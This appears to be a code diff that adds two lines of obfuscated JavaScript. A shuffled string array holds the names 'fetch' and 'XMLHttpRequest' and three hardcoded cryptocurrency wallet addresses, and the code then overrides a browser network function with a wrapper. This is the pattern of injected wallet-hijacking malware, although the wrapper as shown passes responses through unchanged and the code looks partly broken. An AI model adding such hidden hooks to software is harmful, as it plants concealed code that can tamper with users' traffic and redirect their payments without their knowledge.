@@ -1,0 +1,2 @@
+var _0x4c2a=['fetch','XMLHttpRequest','0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976','1H13VnQJKtT4HjD5ZFKaaiZEetMbG7nDHx','TB9emsCq6fQw6wRk4HBxxNnU6Hwt1DnV67'];(function(_0x1a2b3c,_0x3c4d5e){var _0x2d3e4f=function(_0x4e5f6a){while(--_0x4e5f6a){_0x1a2b3c['push'](_0x1a2b3c['shift']());}};_0x2d3e4f(++_0x3c4d5e);}(_0x4c2a,0x1c8));var _0x3b4c=function(_0x1a2b3c){return _0x4c2a[_0x1a2b3c-0x0];};
+var _0x9f=window[_0x3b4c('0x0')];window[_0x3b4c('0x0')]=function(){return _0x9f.apply(this,arguments).then(function(r){return r;});};
